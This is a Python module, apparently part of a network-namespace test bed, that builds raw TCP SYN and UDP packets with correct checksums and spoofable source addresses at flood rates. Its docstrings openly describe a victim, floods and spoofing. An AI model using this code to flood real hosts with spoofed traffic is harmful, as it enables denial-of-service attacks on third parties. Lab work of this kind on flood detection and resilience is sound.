"""TCP SYN segments for raw sockets, with correct checksums, built with struct.

The victim's kernel verifies every checksum (veth leaves raw-socket packets unverified,
so the receiver does it), so a wrong one would make a flood invisible to the TCP stack.
Checksums are summed incrementally: the constant words once, the per-packet words
(source address, source port, sequence number) per packet, which keeps Python at tens of
thousands of packets per second without a C helper.
"""
from __future__ import annotations

import ipaddress
import socket
import struct
import time

TTL = 64
WINDOW = 64240
TCP_HEADER_BYTES = 20
SYN_FLAGS = (5 << 12) | 0x02     # data offset 5 words, SYN
ACK_FLAGS = (5 << 12) | 0x10     # data offset 5 words, ACK (a segment of no flow)
IPPROTO_TCP = socket.IPPROTO_TCP


def word_sum(data: bytes) -> int:
    """Sum of the big-endian 16-bit words of `data` (padded to even length)."""
    if len(data) % 2:
        data += b"\0"
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def fold(total: int) -> int:
    """One's-complement fold of a word sum into a 16-bit Internet checksum (RFC 1071)."""
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def checksum(data: bytes) -> int:
    return fold(word_sum(data))


def family_of(addr: str) -> int:
    return socket.AF_INET6 if ipaddress.ip_address(addr).version == 6 else socket.AF_INET


def packed(addr: str) -> bytes:
    return ipaddress.ip_address(addr).packed


def open_raw(family: int) -> socket.socket:
    """A raw socket that sends whole IP packets: IPPROTO_RAW implies IP_HDRINCL on IPv4 and
    IPV6_HDRINCL on IPv6, so the source address is ours to choose (spoofing needs that)."""
    sock = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return sock


class SynBuilder:
    """Builds complete IPv4 or IPv6 packets carrying one TCP SYN (or `flags`) to `dst`:`dport`."""

    def __init__(self, dst: str, dport: int, flags: int = SYN_FLAGS):
        self.flags = flags
        self.v6 = family_of(dst) == socket.AF_INET6
        self.dst = packed(dst)
        self.dport = dport
        # Constant part of the TCP checksum: destination half of the pseudo-header, the
        # protocol and TCP length (same sum for the v4 and v6 pseudo-headers), and the
        # header words that never change.
        self._tcp_base = (word_sum(self.dst) + IPPROTO_TCP + TCP_HEADER_BYTES
                          + dport + flags + WINDOW)
        self._ip_base = (0x4500 + 20 + TCP_HEADER_BYTES + ((TTL << 8) | IPPROTO_TCP)
                         + word_sum(self.dst))

    def syn(self, src: bytes, src_sum: int, sport: int, seq: int) -> bytes:
        """`src_sum` is word_sum(src), computed once per source address by the caller."""
        tcp_csum = fold(self._tcp_base + src_sum + sport + (seq >> 16) + (seq & 0xFFFF))
        tcp = struct.pack("!HHIIHHHH", sport, self.dport, seq, 0, self.flags, WINDOW, tcp_csum, 0)
        if self.v6:
            return struct.pack("!IHBB", 6 << 28, TCP_HEADER_BYTES, IPPROTO_TCP, TTL) + src + self.dst + tcp
        ident = seq & 0xFFFF
        ip_csum = fold(self._ip_base + ident + src_sum)
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + TCP_HEADER_BYTES, ident, 0, TTL, IPPROTO_TCP, ip_csum)
        return ip + src + self.dst + tcp


class UdpBuilder:
    """Builds complete IPv4 or IPv6 packets carrying one UDP datagram to `dst`:`dport`."""

    def __init__(self, dst: str, dport: int, payload: bytes):
        self.v6 = family_of(dst) == socket.AF_INET6
        self.dst, self.dport, self.payload = packed(dst), dport, payload
        self.length = 8 + len(payload)

    def datagram(self, src: bytes, sport: int) -> bytes:
        pseudo = src + self.dst + struct.pack("!HH", socket.IPPROTO_UDP, self.length)
        udp = struct.pack("!HHHH", sport, self.dport, self.length, 0) + self.payload
        csum = checksum(pseudo + udp) or 0xFFFF     # 0 means "no checksum" in UDP
        udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
        if self.v6:
            return struct.pack("!IHBB", 6 << 28, self.length, socket.IPPROTO_UDP, TTL) + src + self.dst + udp
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + self.length, sport & 0xFFFF, 0, TTL,
                         socket.IPPROTO_UDP, 0) + src + self.dst
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return ip + udp


def source_for(target: str) -> str:
    """The address this namespace would send from to reach `target` (no packet is sent:
    connecting a UDP socket only picks the route)."""
    with socket.socket(family_of(target), socket.SOCK_DGRAM) as probe:
        probe.connect((target, 9))
        return probe.getsockname()[0]


IF_INET6 = "/proc/net/if_inet6"
IFA_F_TENTATIVE = 0x40
SCOPE_LINK = 0x20


def wait_link_local_ready(timeout_s: float = 3.0) -> bool:
    """Wait (bounded) until no link-local address of this namespace is still in duplicate
    address detection. Why: a spoofed IPv6 source isn't ours, so the neighbour solicitation
    for the next hop must come from our link-local address; while that is tentative (about
    2 s after a link comes up) the kernel sends no solicitation and silently drops the
    queued packets. Returns False if it is still tentative at the deadline."""
    deadline = time.monotonic() + timeout_s
    while True:
        try:
            with open(IF_INET6) as f:
                rows = [line.split() for line in f]
        except OSError:      # no IPv6 here: nothing to wait for
            return True
        if not any(int(r[3], 16) == SCOPE_LINK and int(r[4], 16) & IFA_F_TENTATIVE for r in rows):
            return True
        if time.monotonic() >= deadline:
            return False
        time.sleep(0.05)
